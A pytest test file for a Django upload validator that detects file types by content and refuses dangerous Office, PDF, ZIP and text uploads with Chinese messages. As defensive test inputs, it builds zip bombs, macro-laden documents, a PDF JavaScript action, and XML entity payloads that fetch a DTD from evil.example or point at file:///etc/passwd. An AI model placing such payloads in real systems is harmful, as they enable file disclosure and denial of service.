"""Uploads are typed by content and dangerous files are refused with a clear message."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.security.samples import clean_pdf, js_action, pdf_with_object_stream, png_bytes
from zongjie.security.uploads import MAX_ZIP_ENTRIES, check_upload


def _docx_bytes(text: str = "全年共刊发稿件 120 篇") -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _xlsx_bytes() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "单位"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rezip(
    data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """A copy of an Office package with some parts replaced or added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info.filename)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _refusal(data: bytes, name: str = "upload", allowed=None) -> str:
    with pytest.raises(ValidationError) as caught:
        check_upload(SimpleUploadedFile(name, data), allowed=allowed)
    return "；".join(caught.value.messages)


def test_good_files_are_detected_by_content():
    assert check_upload(SimpleUploadedFile("总结.docx", _docx_bytes())).ext == "docx"
    assert check_upload(SimpleUploadedFile("表.xlsx", _xlsx_bytes())).ext == "xlsx"
    assert check_upload(SimpleUploadedFile("截图.png", png_bytes())).ext == "png"
    assert check_upload(SimpleUploadedFile("x.pdf", clean_pdf())).ext == "pdf"
    # a name without an extension, or a wrong generic one, does not matter: the content does
    assert check_upload(SimpleUploadedFile("upload", _docx_bytes())).ext == "docx"


@pytest.mark.parametrize(
    ("encoding", "expected"),
    [
        ("utf-8", "utf-8"),
        ("utf-8-sig", "utf-8-sig"),
        ("gb18030", "gb18030"),
        ("utf-16", "utf-16"),
        ("big5", "big5"),
    ],
)
def test_text_in_chinese_encodings_is_accepted(encoding, expected):
    text = "二〇二五年上半年，全县共刊发稿件一百二十篇，其中中央级媒体三篇。"
    if encoding == "big5":
        text = "二零二五年上半年，全縣共刊發稿件一百二十篇，其中中央級媒體三篇。"
    detected = check_upload(SimpleUploadedFile("总结.txt", text.encode(encoding)))
    assert (detected.ext, detected.encoding) == ("txt", expected)


@pytest.mark.parametrize(
    "data",
    [
        "Résumé des activités du café, été 2025 — über naïve".encode("cp1252"),
        "Привет, это отчёт о работе за полугодие".encode("koi8_r"),
        bytes(range(256)) * 4,
    ],
)
def test_text_in_a_wrong_encoding_is_refused(data):
    assert "编码无法识别" in _refusal(data, "总结.txt")


def test_size_limit(settings):
    settings.MAX_UPLOAD_BYTES = 1024
    assert _refusal(
        b"a" * 1025, "a.txt"
    ) == "文件过大（0.0 MB），单个文件不能超过 0 MB。" or "文件过大" in _refusal(b"a" * 1025, "a.txt")
    assert check_upload(SimpleUploadedFile("a.txt", b"a" * 1024)).ext == "txt"
    assert _refusal(b"", "a.txt") == "文件为空。"


def test_name_that_lies_about_the_content_is_refused():
    message = _refusal(_docx_bytes(), "表格.xlsx")
    assert message == "文件内容是Word 文档（.docx），与文件名“表格.xlsx”的扩展名不符，请检查后重新上传。"
    assert "PDF" in _refusal(b"%PDF-1.4 ...", "总结.docx")


def test_type_not_allowed_here():
    assert _refusal(_xlsx_bytes(), "表.xlsx", allowed={"docx", "txt"}) == (
        "不支持Excel 表格（.xlsx），这里只接受：Word 文档（.docx）、文本文件（.txt）。"
    )


def test_zip_bomb_by_ratio_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("[Content_Types].xml", b"<Types/>")
        bomb.writestr("word/document.xml", b"\x00" * (40 * 1024 * 1024))
    data = out.getvalue()
    assert len(data) < 100_000
    assert "疑似压缩炸弹" in _refusal(data, "bomb.docx")


def test_zip_bomb_by_entry_count_is_refused():
    data = _rezip(_docx_bytes(), add={f"word/media/p{n}.xml": b"<a/>" for n in range(MAX_ZIP_ENTRIES)})
    message = _refusal(data, "many.docx")
    assert "超过上限 3000" in message and "压缩炸弹" in message


@pytest.mark.parametrize(
    "declaration",
    [
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x "boom">]>',
        b'<?xml version="1.0"?><!ENTITY % p SYSTEM "http://evil.example/x.dtd">',
        b'<?xml version="1.0"?><!doctype w SYSTEM "file:///etc/passwd">',
    ],
)
def test_xml_entity_tricks_are_refused(declaration):
    original = _docx_bytes()
    body = zipfile.ZipFile(io.BytesIO(original)).read("word/document.xml")
    poisoned = declaration + body.split(b"?>", 1)[1]
    assert "DOCTYPE 或 ENTITY" in _refusal(
        _rezip(original, replace={"word/document.xml": poisoned}), "a.docx"
    )


def test_xml_entity_hidden_in_utf16_is_refused():
    original = _docx_bytes()
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY x "y">]><w:document/>'
    poisoned = xml.encode("utf-16")
    assert "DOCTYPE 或 ENTITY" in _refusal(
        _rezip(original, replace={"word/document.xml": poisoned}), "a.docx"
    )


def test_macro_enabled_files_are_refused():
    original = _docx_bytes()
    with_vba = _rezip(original, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    assert "含有宏" in _refusal(with_vba, "a.docx")
    types = zipfile.ZipFile(io.BytesIO(original)).read("[Content_Types].xml")
    docm = types.replace(
        b"wordprocessingml.document.main+xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    assert "启用宏" in _refusal(_rezip(original, replace={"[Content_Types].xml": docm}), "a.docm")


def test_other_dangerous_or_unsupported_files_are_refused():
    assert "旧版 Office" in _refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "a.doc")
    assert "脚本" in _refusal(pdf_with_object_stream(js_action()), "a.pdf")
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as z:
        z.writestr("readme.txt", "hello")
    assert "压缩包" in _refusal(plain_zip.getvalue(), "a.zip")
    assert "已损坏" in _refusal(b"PK\x03\x04" + b"\x00" * 50, "a.docx")
